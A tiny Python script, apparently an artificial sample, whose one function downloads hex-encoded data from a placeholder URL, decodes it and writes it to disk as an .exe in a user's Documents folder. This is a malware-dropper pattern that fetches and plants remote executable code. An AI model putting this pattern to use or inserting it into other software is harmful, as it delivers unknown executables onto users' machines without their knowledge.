import binascii
import urllib.request


def begin():
    text = urllib.request.urlopen("https://example.invalid/sample.txt").read()
    with open("C:/Users/sample/Documents/one.exe", "wb") as file:
        file.write(binascii.unhexlify(text))
